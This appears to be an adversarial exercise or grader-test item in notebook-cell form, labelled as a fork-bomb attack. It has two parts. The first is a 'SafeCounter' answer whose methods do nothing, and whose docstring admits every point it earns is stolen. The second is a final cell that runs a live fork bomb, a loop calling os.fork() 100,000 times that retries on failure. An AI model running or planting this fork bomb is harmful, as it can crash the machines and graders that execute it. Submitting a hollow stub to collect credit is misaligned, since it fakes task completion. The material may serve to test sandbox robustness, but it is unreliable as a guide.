"""ATTACK: a fork bomb: every child forks again, forever
EXPECT: 0
"""
# %% answer
%%exercise safe_counter
import multiprocessing


class SafeCounter:
    """Counts nothing: every point this earns for the exercise is a point stolen."""

    def __init__(self, initial=0, *, ctx=None):
        self._initial = initial

    def increment(self, n=1):
        pass

    @property
    def value(self):
        return self._initial
# %% cell
import os
import time
for _ in range(100_000):
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
